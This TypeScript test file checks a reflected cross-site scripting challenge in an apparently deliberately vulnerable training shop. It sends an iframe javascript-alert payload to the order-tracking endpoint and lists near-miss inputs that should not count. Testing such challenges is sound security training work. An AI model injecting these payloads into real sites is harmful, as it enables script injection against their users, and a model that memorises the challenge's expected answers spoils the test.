import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
const track = (attacker: Attacker, id: string) => attacker.get(`/rest/track-order/${encodeURIComponent(id)}`)

export const proof = prove(challenge, {
  exploit: (attacker) => track(attacker, PAYLOAD),
  nearMisses: {
    'a number that no order has': (attacker) => track(attacker, '5267-f73dcd000abcc353'),
    'a tag that cannot act': (attacker) => track(attacker, '<h1>apple'),
    'the payload without its brackets': (attacker) => track(attacker, 'iframe src="javascript:alert(`xss`)"'),
    'the payload already escaped': (attacker) => track(attacker, '&lt;iframe src="javascript:alert(`xss`)"&gt;'),
    'the payload inside a comment, where nothing runs': (attacker) => track(attacker, `<!-- ${PAYLOAD} -->`),
    'the payload so late that it is cut off': (attacker) => track(attacker, `${'7'.repeat(30)}${PAYLOAD}`),
    'the payload beside the number, where nothing repeats it': (attacker) =>
      attacker.get(`/rest/track-order/7?id=${encodeURIComponent(PAYLOAD)}`),
    'the payload in the search, which never reaches the server': (attacker) =>
      attacker.emit('verifyLocalXssChallenge', PAYLOAD),
  },
})
